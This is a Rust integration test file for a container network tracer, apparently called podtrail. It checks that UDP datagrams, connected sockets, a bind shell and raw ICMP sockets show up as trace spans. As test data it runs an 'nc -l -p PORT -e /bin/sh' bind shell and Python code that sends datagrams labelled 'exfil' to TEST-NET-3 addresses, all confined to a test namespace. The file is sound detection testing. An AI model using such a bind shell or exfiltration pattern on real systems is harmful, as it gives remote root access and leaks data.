//! Every way out of a container that is not a connect (issue 18), from real containers and
//! real kernel events through `podtrail run` to its OTLP/JSON file: datagrams that name
//! their destination (sendto, also on a connected socket), a connected UDP socket's real
//! destination, a bind shell's listen and the connection it accepts, a raw ICMP socket; and
//! outside sessions, datagrams to an external address folded like outbound connects.
//!
//! The external addresses (TEST-NET-3, 203.0.113.0/24) live on the loopback of a network
//! namespace the test creates, so the datagrams are delivered there and nothing leaves the
//! machine.

mod support;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::time::{Duration, Instant};

use support::agent::{containerd_config, FileAgent};
use support::containers::Containerd;
use support::fixtures::NetNs;
use support::otlp_json::{self, Span};

const HOST_USR: &str = "type=bind,src=/usr,dst=/usr,options=rbind:ro";

/// The host's /usr in the container (python3 for the socket calls busybox cannot make).
fn with_host_usr(root: &Path) {
    std::fs::create_dir_all(root.join("usr")).unwrap();
    for l in ["lib", "lib64"] {
        if !root.join(l).exists() {
            symlink(format!("usr/{l}"), root.join(l)).unwrap();
        }
    }
}

fn agent(cd: &Containerd) -> FileAgent {
    FileAgent::start(&containerd_config(&cd.address, &cd.namespace, "[metrics]\nlisten = \"\"\n"), &[])
}

fn stop(mut a: FileAgent) -> Vec<Span> {
    a.terminate();
    // shown with a failure: why each exec session began
    for l in a.log().lines().filter(|l| l.contains("session")) {
        eprintln!("agent: {l}");
    }
    otlp_json::read(&a.file())
}

fn of_container<'a>(spans: &'a [Span], id: &str) -> Vec<&'a Span> {
    spans.iter().filter(|s| s.str("container.id").as_deref() == Some(id)).collect()
}

/// Spans named `op` (span names are the operation, low-cardinality) whose peer is `addr:port`
/// (`server.address`/`server.port`).
fn op_to<'a>(spans: &[&'a Span], op: &str, addr: &str, port: u16) -> Vec<&'a Span> {
    let port = port.to_string();
    spans
        .iter()
        .copied()
        .filter(|s| {
            s.name == op
                && s.text("server.address").as_deref() == Some(addr)
                && s.text("server.port").as_deref() == Some(port.as_str())
        })
        .collect()
}

/// Spans named `op` with attribute `key` = `value`.
fn op_with<'a>(spans: &[&'a Span], op: &str, key: &str, value: &str) -> Vec<&'a Span> {
    spans.iter().copied().filter(|s| s.name == op && s.text(key).as_deref() == Some(value)).collect()
}

/// Five datagrams to one external address, one to another from a socket connected to a
/// third (which then sends there with send()): in an exec session.
const SENDER: &str = "import socket\n\
r = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(3)]\n\
for x, a in zip(r, [('203.0.113.9', 5353), ('203.0.113.10', 53), ('203.0.113.11', 9)]): x.bind(a)\n\
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
for _ in range(5): s.sendto(b'exfil', ('203.0.113.9', 5353))\n\
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
c.connect(('203.0.113.10', 53))\n\
c.send(b'q')\n\
c.sendto(b'elsewhere', ('203.0.113.11', 9))\n";

#[test]
fn datagrams_that_name_their_destination_are_spans_counted_exactly_and_folded_outside_sessions() {
    let cd = Containerd::start();
    let ns = NetNs::new(&["203.0.113.9", "203.0.113.10", "203.0.113.11", "203.0.113.12"]);
    let a = agent(&cd);
    // the container's own process (outside every session) sends 7 datagrams to an external
    // address with sendto: one outbound trace folding all 7
    let init = "sleep 2; /usr/bin/python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); [s.sendto(b'x', ('203.0.113.12', 4000)) for _ in range(7)]\"; sleep 3600";
    let c =
        cd.run_prepared(&[], &["--with-ns", &ns.with_ns(), "--mount", HOST_USR], &["sh", "-c", init], &with_host_usr);
    std::thread::sleep(Duration::from_secs(4));
    let x = cd.exec(&c.id, &["/usr/bin/python3", "-c", SENDER]);
    assert!(x.status.success(), "sender: {}", String::from_utf8_lossy(&x.stderr));
    std::thread::sleep(Duration::from_secs(2));
    let spans = stop(a);
    let mine = of_container(&spans, &c.id);

    let exfil = op_to(&mine, "sendto", "203.0.113.9", 5353);
    assert_eq!(exfil.len(), 1, "five datagrams to one destination fold into one span: {mine:#?}");
    let s = exfil[0];
    assert_eq!(s.text("podtrail.folded.count").as_deref(), Some("5"), "counted exactly: {s:#?}");
    assert_eq!(s.kind, 3, "CLIENT");
    assert_eq!(s.text("podtrail.network.operation").as_deref(), Some("sendto"));
    assert_eq!(s.text("podtrail.network.outcome").as_deref(), Some("sent"));
    assert_eq!(s.text("network.transport").as_deref(), Some("udp"));
    assert_eq!(s.text("server.address").as_deref(), Some("203.0.113.9"));
    assert_eq!(s.text("server.port").as_deref(), Some("5353"));
    assert_eq!(s.text("podtrail.network.destination.scope").as_deref(), Some("external"));
    assert_eq!(s.text("podtrail.session.kind").as_deref(), Some("exec"));
    let proc = mine.iter().find(|p| p.span_id == s.parent).expect("the sender's process span");
    assert_eq!(proc.name, "python3");

    // the connected socket: its connect is a span that sent data, and the datagram it sent
    // elsewhere with sendto is one of its own
    let conn = op_to(&mine, "connect", "203.0.113.10", 53);
    assert_eq!(conn.len(), 1, "{mine:#?}");
    assert!(conn[0].text("podtrail.network.operation").is_none(), "a connect span stays as it was");
    let other = op_to(&mine, "sendto", "203.0.113.11", 9);
    assert_eq!(other.len(), 1, "a connected socket sending elsewhere: {mine:#?}");
    assert_eq!(other[0].text("podtrail.folded.count").as_deref(), Some("1"));

    // outside sessions: one outbound trace, the 7 datagrams folded into it
    let out = op_to(&mine, "sendto", "203.0.113.12", 4000);
    assert_eq!(out.len(), 1, "one outbound record: {mine:#?}");
    // on failure, the trace it landed in: root kind, processes and their parents
    let trace_of = |s: &Span| -> Vec<String> {
        mine.iter()
            .filter(|x| x.trace_id == s.trace_id)
            .map(|x| format!("{} <- {} [{}] {:?} {:?}", x.span_id, x.parent, x.name, x.args(), x.text("process.pid")))
            .collect()
    };
    assert_eq!(
        out[0].text("podtrail.session.kind").as_deref(),
        Some("outbound"),
        "the init's datagrams are outside every session: {:#?}",
        trace_of(out[0])
    );
    assert_eq!(out[0].text("podtrail.folded.count").as_deref(), Some("7"));
    let root = mine.iter().find(|r| r.trace_id == out[0].trace_id && r.is_root()).expect("its root");
    assert_eq!(root.name, "outbound");
}

#[test]
fn a_bind_shell_shows_its_listen_the_connection_it_accepted_and_what_ran() {
    let cd = Containerd::start();
    let a = agent(&cd);
    let ping = |root: &Path| symlink("busybox", root.join("bin/ping")).expect("ping applet");
    let c = cd.run_prepared(&[], &["--net-host"], &["sleep", "3600"], &ping);
    let port = support::net::free_port();
    let mut shell = cd.exec_cmd(&c.id, &["nc", "-l", "-p", &port.to_string(), "-e", "/bin/sh"]).spawn().unwrap();
    // the listener comes up inside the exec: wait for it
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut s = loop {
        match TcpStream::connect(("127.0.0.1", port)) {
            Ok(s) => break s,
            Err(e) => assert!(Instant::now() < deadline, "the bind shell never listened: {e}"),
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    let client_port = s.local_addr().unwrap().port();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    // by path: busybox sh runs a bare applet name in a fork without exec
    s.write_all(b"/bin/id; exit\n").unwrap();
    let mut reply = String::new();
    let _ = s.read_to_string(&mut reply);
    assert!(reply.contains("uid=0"), "the shell ran id: {reply:?}");
    let _ = shell.wait();
    // and a raw ICMP socket, in another session
    let ping = cd.exec(&c.id, &["ping", "-c", "1", "-W", "1", "127.0.0.1"]);
    assert!(ping.status.success(), "ping: {}", String::from_utf8_lossy(&ping.stderr));
    std::thread::sleep(Duration::from_secs(2));
    let spans = stop(a);
    let mine = of_container(&spans, &c.id);

    let tree: Vec<String> = mine
        .iter()
        .map(|s| format!("{} {} <- {} [{}] {:?}", &s.trace_id[..8], s.span_id, s.parent, s.name, s.args()))
        .collect();
    // busybox nc listens on the IPv4 or the IPv6 wildcard (dual stack): the port tells it
    let listen: Vec<&Span> = mine
        .iter()
        .copied()
        .filter(|s| s.name == "listen" && s.text("network.local.port") == Some(port.to_string()))
        .collect();
    assert_eq!(listen.len(), 1, "the listen: {tree:#?}");
    assert_eq!(listen[0].text("network.local.port"), Some(port.to_string()));
    assert_eq!(listen[0].text("podtrail.network.operation").as_deref(), Some("listen"));
    let accept = op_with(&mine, "accept", "network.peer.port", &client_port.to_string());
    assert_eq!(accept.len(), 1, "the accepted connection, named by its client: {mine:#?}");
    let acc = accept[0];
    assert_eq!(acc.kind, 2, "SERVER");
    assert_eq!(acc.text("podtrail.network.operation").as_deref(), Some("accept"));
    assert_eq!(acc.text("network.peer.address").as_deref(), Some("127.0.0.1"));
    assert_eq!(acc.text("network.peer.port"), Some(client_port.to_string()));
    assert_eq!(acc.text("server.port"), Some(port.to_string()));
    assert_eq!(acc.text("podtrail.network.destination.scope").as_deref(), Some("loopback"));
    // the listener's process span holds both, and the shell it ran is in the same trace
    let nc = mine.iter().find(|p| p.span_id == acc.parent).expect("the accepting process");
    assert_eq!(nc.name, "nc");
    assert_eq!(listen[0].parent, acc.parent);
    assert!(
        mine.iter().any(|p| p.trace_id == acc.trace_id && p.name == "id"),
        "the command run through the bind shell is in its trace: {tree:#?}"
    );

    let raw = op_with(&mine, "socket", "network.transport", "icmp");
    assert_eq!(raw.len(), 1, "ping's ICMP socket: {mine:#?}");
    assert_eq!(raw[0].text("podtrail.network.operation").as_deref(), Some("socket"));
    assert_eq!(raw[0].text("network.transport").as_deref(), Some("icmp"));
    let ping = mine.iter().find(|p| p.span_id == raw[0].parent).expect("ping's span");
    assert_eq!(ping.name, "ping");
}
